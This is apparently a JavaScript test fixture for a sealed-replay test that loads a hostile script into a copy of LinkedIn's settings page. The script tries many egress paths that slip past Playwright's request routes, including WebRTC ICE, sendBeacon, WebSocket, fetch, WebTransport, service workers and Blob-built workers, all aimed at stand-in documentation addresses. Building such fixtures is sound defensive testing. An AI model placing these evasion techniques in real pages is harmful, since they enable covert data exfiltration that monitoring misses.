// A hostile saved page's script (tests/test_sealed_replay.py loads it into a copy of LinkedIn's
// settings page). Everything here tries to reach outside addresses (documentation ranges,
// RFC 5737 and 3849) by paths that Playwright's request routes never see. The settings section
// comes back only once every attempt has started, so a run that reads the setting proves this
// script ran; what it tried is kept in `document.body.dataset.hostile`.
(() => {
  const main = document.getElementById('main');
  const home = main.parentNode;
  main.remove();
  const tried = [];
  const note = what => { tried.push(what); document.body.dataset.hostile = tried.join(' '); };
  const attempt = (what, act) => {
    try {
      const done = act();
      note(what);
      if (done) done.then(() => note(what + ':done'), e => note(what + ':' + e.name));
    } catch (e) { note(what + ':' + e.name); }
  };
  const ice = {iceServers: [
    {urls: 'stun:203.0.113.5:3478'},
    {urls: ['turn:198.51.100.6:3478?transport=udp', 'turn:198.51.100.6:3478?transport=tcp'],
     username: 'u', credential: 'p'},
  ]};
  // Two peers on this page: ICE gathering (STUN, mDNS names for host candidates), connectivity
  // checks, and remote candidates at an outside address and at an mDNS name to resolve.
  const peers = async RTC => {
    const a = new RTC(ice), b = new RTC(ice);
    a.onicecandidate = e => { if (e.candidate) b.addIceCandidate(e.candidate).catch(() => {}); };
    b.onicecandidate = e => { if (e.candidate) a.addIceCandidate(e.candidate).catch(() => {}); };
    a.createDataChannel('leak');
    await a.setLocalDescription(await a.createOffer());
    await b.setRemoteDescription(a.localDescription);
    await b.setLocalDescription(await b.createAnswer());
    await a.setRemoteDescription(b.localDescription);
    for (const where of ['198.51.100.30 50000', '0e1f2a3b-4c5d-4e6f-8a9b-0c1d2e3f4a5b.local 50001'])
      await a.addIceCandidate({candidate: `candidate:1 1 udp 2122260223 ${where} typ host`,
                               sdpMid: '0'}).catch(() => {});
  };
  attempt('rtc', () => peers(window.RTCPeerConnection));
  attempt('webkit-rtc', () => peers(window.webkitRTCPeerConnection));
  // A fresh frame's own constructor, untouched by anything done to this one.
  attempt('iframe-rtc', () => {
    const frame = document.createElement('iframe');
    document.body.appendChild(frame);
    return peers(frame.contentWindow.RTCPeerConnection);
  });
  attempt('preconnect', () => {
    for (const [rel, href] of [['preconnect', 'https://203.0.113.7'],
                               ['preconnect', 'http://203.0.113.7'],
                               ['dns-prefetch', '//outside.example']]) {
      const link = document.createElement('link');
      link.rel = rel; link.href = href;
      document.head.appendChild(link);
    }
  });
  attempt('beacon', () => {
    navigator.sendBeacon('https://203.0.113.10/beacon', 'leak');
    navigator.sendBeacon('http://203.0.113.10/beacon', 'leak');
  });
  attempt('websocket', () => { new WebSocket('wss://203.0.113.9/'); });
  attempt('plain-websocket', () => { new WebSocket('ws://203.0.113.9/'); });
  attempt('fetch', () => Promise.any([fetch('http://198.51.100.2/'), fetch('https://198.51.100.2/'),
                                      fetch('https://[2001:db8::2]/')]));
  attempt('service-worker',
          () => navigator.serviceWorker.register('https://www.linkedin.com/hostile-sw.js'));
  attempt('webtransport', () => new WebTransport('https://203.0.113.11:4433/').ready);
  // Workers: a shared worker's requests bypass the routes (seen with Chromium 156), and no page
  // script reaches a worker's WebSocket. Each also knocks on loopback, which the test expects
  // to see: proof the trace watched the browser's network service at all.
  const work = `
    fetch('https://198.51.100.40/').catch(() => {});
    fetch('https://127.0.0.1:1/optout-canary').catch(() => {});
    new WebSocket('wss://198.51.100.41/');
    new WebSocket('wss://127.0.0.1:1/optout-canary');`;
  const script = body => URL.createObjectURL(new Blob([body], {type: 'text/javascript'}));
  attempt('shared-worker', () => { new SharedWorker(script(`onconnect = () => {}; ${work}`)); });
  attempt('worker', () => { new Worker(script(work)); });
  // Time for all of it to reach the network before the flow reads the page.
  setTimeout(() => { home.appendChild(main); note('section'); }, 400);
})();
